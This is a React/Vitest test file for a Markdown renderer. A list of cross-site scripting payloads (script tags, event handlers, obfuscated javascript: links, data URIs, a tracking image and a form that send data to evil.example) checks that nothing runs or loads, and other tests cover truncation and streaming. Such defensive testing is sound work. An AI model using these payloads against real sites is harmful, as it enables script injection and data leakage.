import { act, fireEvent, render, screen } from "@testing-library/react";
import { afterEach, beforeEach, describe, expect, test, vi } from "vitest";
import { Markdown } from "./Markdown";

beforeEach(() => void vi.spyOn(console, "error"));
afterEach(() => expect(console.error).not.toHaveBeenCalled());

const shown = (text: string, streaming = false): HTMLElement =>
  render(<Markdown text={text} streaming={streaming} />).container;

const HOSTILE = [
  "<script>window.ran = true</script>",
  '<img src=x onerror="window.ran = true">',
  "<svg/onload=window.ran=true>",
  '<iframe src="javascript:window.ran=true"></iframe>',
  '<a href="javascript:window.ran=true" onclick="window.ran=true">x</a>',
  "<style>* { display: none }</style>",
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name=key></form>',
  "[x](javascript:window.ran=true)",
  "[x](JAVASCRIPT:window.ran=true)",
  "[x](java&#115;cript:window.ran=true)",
  "[x](javascript&colon;window.ran=true)",
  "[x](&#x6A;avascript:window.ran=true)",
  "[x](<javascript:window.ran=true>)",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:x)",
  "[x](//evil.example)",
  "[x](/dragoman/v1/session)",
  "<javascript:window.ran=true>",
  "[x][1]\n\n[1]: javascript:window.ran=true",
  "![x](javascript:window.ran=true)",
  "![x](https://evil.example/track.png?q=secret)",
  "![x](data:image/svg+xml,<svg onload=window.ran=true>)",
  "![x](/api/chat)",
  "[![x](https://evil.example/a.png)](javascript:window.ran=true)",
  '```"><script>window.ran=true</script>\ncode\n```',
  "```html\n<script>window.ran=true</script>\n```",
  "| a |\n|---|\n| <script>window.ran=true</script> |",
  "| a |\n|:-:|\n| ![x](https://evil.example/b.png) |",
  "# <img src=x onerror=window.ran=true>",
  "`<script>window.ran=true</script>`",
  "&lt;script&gt;window.ran=true&lt;/script&gt;",
  "<!-- hidden -->text",
  '[x](https://ok.example "a" onmouseover=window.ran=true)',
  '!["onerror="window.ran=true](https://evil.example/c.png)',
];

describe("hostile content", () => {
  test.each(HOSTILE)("is shown as text, runs nothing, loads nothing: %s", (text) => {
    for (const streaming of [false, true]) {
      const page = shown(text, streaming);
      expect(
        page.querySelector("script, img, svg, iframe, style, base, meta, form, object, embed, link, video, audio"),
      ).toBeNull();
      for (const element of page.querySelectorAll("*")) {
        for (const { name, value } of element.attributes) {
          expect(name).not.toMatch(/^on|^src|^srcdoc|^formaction|^style$/);
          if (name === "href") expect(value).toMatch(/^(?:https?:\/\/|mailto:)/);
        }
      }
      for (const link of page.querySelectorAll("a")) {
        expect(link.getAttribute("rel")).toBe("noopener noreferrer");
        expect(link.getAttribute("target")).toBe("_blank");
      }
      for (const control of page.querySelectorAll("button")) fireEvent.click(control);
    }
    expect("ran" in window).toBe(false);
  });

  test("HTML is to be read, not gone", () => {
    expect(shown("<script>alert(1)</script>").textContent).toBe("<script>alert(1)</script>");
    expect(shown("<!-- do this -->").textContent).toBe("<!-- do this -->");
  });

  test("what would turn text is shown", () => {
    expect(shown("invoice\u202Efdp.exe `a\u2066b`").textContent).toBe("invoiceU+202Efdp.exe aU+2066b");
    expect(shown("```\nif (a\u202E) {}\n```").querySelector("pre")?.textContent).toContain("U+202E");
    expect(shown("| \u202Ea |\n|---|\n| b |").querySelector("th")?.textContent).toBe("U+202Ea");
  });

  test("a link that names another place says where it leads", () => {
    expect(shown("[https://bank.example](https://evil.example/x)").textContent).toBe(
      "https://bank.example (evil.example)",
    );
  });

  test("an image is a placeholder that says from where it would come", () => {
    shown("![a cat](https://pictures.example/cat.png)");
    const link = screen.getByRole("link", { name: "Image: a cat (open from pictures.example)" });
    expect(link.getAttribute("href")).toBe("https://pictures.example/cat.png");
  });

  test("images of addresses that the page trusts are shown", () => {
    const { container } = render(
      <Markdown
        text="![a](https://own.example/a.png) ![b](https://evil.example/b.png)"
        settings={{ isOwnImage: (url) => url.startsWith("https://own.example/") }}
      />,
    );
    expect([...container.querySelectorAll("img")].map((image) => image.src)).toEqual(["https://own.example/a.png"]);
  });
});

describe("long content", () => {
  test("one word of a megabyte is cut, and more can be shown", () => {
    const page = shown("a".repeat(1_000_000));
    expect(page.textContent?.length).toBeLessThan(11_000);
    fireEvent.click(screen.getByRole("button", { name: /Show more \(54,000 characters left\)/ }));
    expect(page.textContent?.length).toBeGreaterThan(55_000);
    expect(screen.getByRole("button", { name: /936,000 characters of this text left/ })).toBeTruthy();
  });

  test("a table of 5,000 rows shows its first rows, and more on demand", () => {
    const rows = Array.from({ length: 5000 }, (_, row) => `| ${row} | a |`).join("\n");
    const page = shown(`| n | x |\n|---|---|\n${rows}\n`);
    expect(page.querySelectorAll("tbody tr")).toHaveLength(100);
    fireEvent.click(screen.getByRole("button", { name: /rows left/ }));
    expect(page.querySelectorAll("tbody tr")).toHaveLength(300);
  });

  test("a megabyte of code is cut", () => {
    const page = shown(`\`\`\`python\n${"print('x')\n".repeat(90_000)}\`\`\`\n`);
    expect(page.querySelector("pre")?.textContent?.length).toBeLessThanOrEqual(20_000);
  });

  test("thousands of entries of a list are cut, and deep nesting ends", () => {
    expect(shown("- a\n".repeat(5000)).querySelectorAll("li").length).toBeLessThan(510);
    expect(shown(`${"> ".repeat(5000)}deep`).querySelectorAll("blockquote").length).toBeLessThan(100);
  });
});

describe("streaming", () => {
  afterEach(() => vi.useRealTimers());

  test("elements of finished blocks stay as they are while the text grows", () => {
    vi.useFakeTimers();
    const { container, rerender } = render(<Markdown text={"# Head\n\nfirst\n\nsec"} streaming />);
    const heading = container.querySelector(".dgm-h1");
    const first = container.querySelector("p");
    for (const end of ["ond **bo", "ond **bold**\n\n| a |\n|---|\n| 1", "ond **bold**\n\n| a |\n|---|\n| 1 |\n\nend"]) {
      rerender(<Markdown text={`# Head\n\nfirst\n\nsec${end}`} streaming />);
      act(() => vi.advanceTimersByTime(1000));
      expect(container.querySelector(".dgm-h1")).toBe(heading);
      expect(container.querySelector("p")).toBe(first);
    }
    expect(container.querySelector("strong")?.textContent).toBe("bold");
    expect(container.querySelector("td")?.textContent).toBe("1");
    expect(container.textContent).toContain("end");
  });

  test("a hundred deltas in a second are shown in fewer steps, and the end at once", () => {
    vi.useFakeTimers();
    const { container, rerender } = render(<Markdown text="" streaming />);
    let text = "";
    for (let delta = 0; delta < 100; delta += 1) {
      text += `word${delta} `;
      rerender(<Markdown text={text} streaming />);
      act(() => vi.advanceTimersByTime(10));
    }
    expect(container.textContent).toContain("word95");
    rerender(<Markdown text={`${text}last`} />);
    expect(container.textContent?.endsWith("last")).toBe(true);
  });

  test("what is open reads as closed, and only while it streams", () => {
    expect(shown("some **bol", true).querySelector("strong")?.textContent).toBe("bol");
    expect(shown("some **bol", false).textContent).toBe("some **bol");
    expect(shown("see ![cat](https://a.exa", true).textContent?.trim()).toBe("see");
  });
});

describe("what markdown can say", () => {
  test("headings begin below those of the page", () => {
    shown("# One\n\n##### Five");
    expect(screen.getByRole("heading", { level: 3 }).textContent).toBe("One");
    expect(screen.getByRole("heading", { level: 6 }).textContent).toBe("Five");
  });

  test("lists, tasks, quotes, rules, strokes, tables and line breaks in them", () => {
    const page = shown(
      "1. a\n2. b\n\n3) c\n\n- [x] done\n- [ ] open\n\n> quote\n\n---\n\n~~old~~\n\n| a | b |\n|:-:|--:|\n| x<br>y | **z** |",
    );
    expect(page.querySelectorAll("ol")).toHaveLength(2);
    expect(page.querySelectorAll("ol")[1]?.getAttribute("start")).toBe("3");
    expect(screen.getByRole<HTMLInputElement>("checkbox", { name: "Done" }).checked).toBe(true);
    expect(screen.getByRole<HTMLInputElement>("checkbox", { name: "Not done" }).checked).toBe(false);
    expect(page.querySelector("blockquote")?.textContent).toBe("quote");
    expect(page.querySelector("s")?.textContent).toBe("old");
    expect(page.querySelector("td br")).not.toBeNull();
    expect(page.querySelector("td.dgm-right strong")?.textContent).toBe("z");
  });

  test("bare addresses become links, names of files do not", () => {
    shown("see https://docs.example/a, README.md and docs.example");
    expect(screen.getAllByRole("link").map((link) => link.getAttribute("href"))).toEqual(["https://docs.example/a"]);
  });

  test("links defined after their use are found when the definition comes", () => {
    vi.useFakeTimers();
    const { container, rerender } = render(<Markdown text={"See [docs].\n\nnext\n\nmore\n\n"} streaming />);
    rerender(<Markdown text={"See [docs].\n\nnext\n\nmore\n\n[docs]: https://docs.example\n\nend"} />);
    vi.useRealTimers();
    expect(container.querySelector("a")?.getAttribute("href")).toBe("https://docs.example/");
  });

  test("code can be copied whole, and says so", async () => {
    const written: string[] = [];
    Object.defineProperty(navigator, "clipboard", {
      configurable: true,
      value: { writeText: async (text: string) => void written.push(text) },
    });
    shown("```js\nlet a = '\u202E';\n```");
    fireEvent.click(screen.getByRole("button", { name: "Copy code" }));
    expect(await screen.findByRole("button", { name: "Copied" })).toBeTruthy();
    expect(written).toEqual(["let a = '\u202E';\n"]);
  });
});
